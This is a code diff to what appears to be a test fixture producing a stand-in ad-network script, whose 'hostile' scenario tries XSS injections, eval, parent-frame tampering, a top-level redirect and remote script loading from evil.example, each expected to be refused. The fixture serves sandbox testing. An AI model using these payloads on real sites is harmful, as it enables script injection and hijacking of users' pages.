@@ -7,13 +7,16 @@ const BODIES: Readonly<Record<Answer<'adScript'>, string>> = {
   late: 'setTimeout(show, 5000)',
   fail: '',
   backers: `show('https://ads.example/backers/')`,
-  // Takes away what the page has put there, and leaves its fallback to trip over that.
-  crash: `const lost = place; place = lost.parentNode; lost.remove(); show('https://ads.example/backers/')`,
+  crash: `throw new Error('The stand-in for the network has crashed.')`,
   hostile: `
     const attempt = (what) => { try { what(); } catch (error) { /* refused, as it should be */ } };
     attempt(() => { place.innerHTML = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</' + 'script>'; });
     attempt(() => { place.insertAdjacentHTML('beforeend', '<a href="javascript:window.hacked=1">x</a>'); });
     attempt(() => { eval('window.hacked = 1'); });
+    attempt(() => { parent.document.title = 'hacked'; parent.hacked = 1; });
+    attempt(() => { top.location = 'https://evil.example/'; });
+    attempt(() => { localStorage.setItem('hacked', '1'); });
+    attempt(() => { parent.postMessage({ docsAd: { sight: 'all of it', crash: 7 } }, '*'); });
     attempt(() => { const s = document.createElement('script'); s.text = 'window.hacked=1'; document.head.append(s); });
     attempt(() => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.head.append(s); });
     show('https://example.com/?from=ad', 'Huge '.repeat(5000));`,
@@ -22,7 +25,7 @@ const BODIES: Readonly<Record<Answer<'adScript'>, string>> = {
 /** Returns the script of the stand-in for the ad network, in the manner of Carbon. */
 export function renderNetworkScript(answer: Answer<'adScript'>): string {
   return `(() => {
-  let place = document.currentScript.parentNode;
+  const place = document.currentScript.parentNode;
   function show(href = 'https://example.com/?from=ad', text = 'An ad that the stand-in for the network shows.') {
     const box = document.createElement('div');
     box.id = 'carbonads';
